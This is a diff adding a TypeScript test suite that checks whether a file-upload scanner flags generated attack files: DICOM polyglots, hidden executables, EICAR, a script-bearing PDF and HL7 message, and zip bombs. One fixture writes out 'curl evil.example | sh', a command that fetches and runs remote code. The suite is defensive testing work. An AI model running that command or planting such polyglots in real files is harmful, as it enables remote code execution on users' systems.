@@ -1,0 +1,110 @@
+import assert from "node:assert/strict";
+import { randomBytes } from "node:crypto";
+import { readFileSync } from "node:fs";
+import path from "node:path";
+import { after, before, describe, it } from "node:test";
+import type { ScanResult } from "../../app/pipeline.ts";
+import { TIERS, type Tier } from "../../app/tiers.ts";
+import { CLAM_EXE } from "../harness/clamd.ts";
+import { describeResult, startScanStack, type ScanStack } from "../harness/scan-stack.ts";
+import { BASIC_ELEMENTS, buildDicom, privateElements } from "../fixtures/dicom.ts";
+import { hl7WithScript, pdfWithOpenActionJs, png } from "../fixtures/documents.ts";
+import { eicar } from "../fixtures/eicar.ts";
+import { markEncrypted, nestedZip, zipOf, zipWithLargeMember } from "../fixtures/zips.ts";
+
+const clamExe = readFileSync(CLAM_EXE);
+const from = (tier: Tier) => TIERS.slice(TIERS.indexOf(tier));
+const MiB = 1024 * 1024;
+
+interface Attack {
+  readonly name: string;
+  readonly fileName: string;
+  readonly build: (stack: ScanStack) => Promise<string>;
+  readonly from: Tier;
+  /** A finding id that must be among the findings at every tier from `from` on. */
+  readonly expect: string;
+}
+
+const attacks: Attack[] = [
+  { name: "PE preamble polyglot", fileName: "pe.dcm", from: "free", expect: "dicom.preamble-executable", build: (s) => s.file("pe.dcm", buildDicom({ preamble: clamExe.subarray(0, 128) })) },
+  { name: "ELF preamble polyglot", fileName: "elf.dcm", from: "free", expect: "dicom.preamble-executable", build: (s) => s.file("elf.dcm", buildDicom({ preamble: Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]) })) },
+  { name: "#! preamble polyglot", fileName: "sh.dcm", from: "free", expect: "dicom.preamble-executable", build: (s) => s.file("sh.dcm", buildDicom({ preamble: Buffer.from("#!/bin/sh\ncurl evil.example | sh\nexit 0\n") })) },
+  {
+    name: "executable inside a private tag",
+    fileName: "private.dcm",
+    from: "gold",
+    expect: "analysis.embedded-executable",
+    // The PE sits after 100 random bytes, so it is not at the start of the value: only analysis looks there.
+    build: (s) => s.file("private.dcm", buildDicom({ elements: [...BASIC_ELEMENTS, ...privateElements(Buffer.concat([randomBytes(100), clamExe]))] })),
+  },
+  { name: "EICAR", fileName: "eicar.txt", from: "free", expect: "Test.EICAR.UNOFFICIAL", build: (s) => s.file("eicar.txt", eicar()) },
+  { name: "PDF whose OpenAction runs JavaScript", fileName: "report.pdf", from: "premium", expect: "PDF_OpenAction_JavaScript", build: (s) => s.file("report.pdf", pdfWithOpenActionJs()) },
+  { name: "HL7 message carrying a script", fileName: "result.hl7", from: "premium", expect: "HL7_Script_Injection", build: (s) => s.file("result.hl7", hl7WithScript()) },
+  { name: "zip bomb", fileName: "bomb.zip", from: "free", expect: "archive.ratio-exceeded", build: async (s) => s.file("bomb.zip", await zipOf([{ name: "scan.dcm", data: Buffer.alloc(64 * MiB) }])) },
+  { name: "ZIP nested past the limit", fileName: "nested.zip", from: "free", expect: "archive.too-deep", build: async (s) => s.file("nested.zip", await nestedZip(4, Buffer.from("hello"))) },
+  { name: "encrypted ZIP", fileName: "secret.zip", from: "free", expect: "archive.encrypted", build: async (s) => s.file("secret.zip", markEncrypted(await zipOf([{ name: "report.txt", data: Buffer.from("private data ".repeat(100)) }]))) },
+  {
+    name: "ZIP member bigger than clamd's MaxFileSize with the payload at its end",
+    fileName: "large.zip",
+    from: "free",
+    expect: "archive.entry-too-large",
+    build: async (s) => {
+      const target = await s.file("large.zip", Buffer.alloc(0));
+      await zipWithLargeMember(target, 513 * MiB, eicar());
+      return target;
+    },
+  },
+  {
+    name: "deflated DICOM hiding clam.exe",
+    fileName: "deflated.dcm",
+    from: "free",
+    expect: "clam.exe.UNOFFICIAL",
+    build: (s) => s.file("deflated.dcm", buildDicom({ transferSyntax: "1.2.840.10008.1.2.1.99", elements: [...BASIC_ELEMENTS, ...privateElements(clamExe)] })),
+  },
+  { name: "PNG named .dcm", fileName: "image.dcm", from: "free", expect: "validation.extension-mismatch", build: (s) => s.file("image.dcm", png()) },
+];
+
+describe("generated attacks are not clean from the tier named", () => {
+  let stack: ScanStack;
+  before(async () => {
+    stack = await startScanStack();
+  });
+  after(() => stack.close());
+
+  for (const attack of attacks) {
+    it(`${attack.name}: not clean from ${attack.from}`, async () => {
+      const file = await attack.build(stack);
+      for (const tier of from(attack.from)) {
+        const r: ScanResult = await stack.scan(file, tier, { bypassCache: true });
+        assert.notEqual(r.status, "clean", `${tier}: ${describeResult(r)}`);
+        assert.notEqual(r.status, "error", `${tier}: ${describeResult(r)}`);
+        assert.ok(r.findings.some((f) => f.id === attack.expect), `${tier}: expected ${attack.expect} in ${describeResult(r)}`);
+      }
+    });
+  }
+
+  it("the deflated DICOM's clam.exe is found by clamd in the content cut out of the inflated dataset", async () => {
+    const file = await stack.file("d.dcm", buildDicom({ transferSyntax: "1.2.840.10008.1.2.1.99", elements: [...BASIC_ELEMENTS, ...privateElements(clamExe)] }));
+    const r = await stack.scan(file, "free");
+    assert.equal(r.status, "infected", describeResult(r));
+    const hit = r.findings.find((f) => f.engine === "clamav");
+    assert.ok(hit && hit.target.startsWith("carved-pe@"), describeResult(r));
+  });
+
+  it("a clean deflated DICOM, a clean PNG, HL7 and PDF stay clean at every tier", async () => {
+    const { hl7, plainPdf, fhirJson } = await import("../fixtures/documents.ts");
+    const files = [
+      await stack.file("ok-deflated.dcm", buildDicom({ transferSyntax: "1.2.840.10008.1.2.1.99" })),
+      await stack.file("ok.png", png()),
+      await stack.file("ok.hl7", hl7()),
+      await stack.file("ok.pdf", plainPdf()),
+      await stack.file("ok.json", fhirJson()),
+    ];
+    for (const file of files) {
+      for (const tier of TIERS) {
+        const r = await stack.scan(file, tier);
+        assert.equal(r.status, "clean", `${path.basename(file)} at ${tier}: ${describeResult(r)}`);
+      }
+    }
+  });
+});
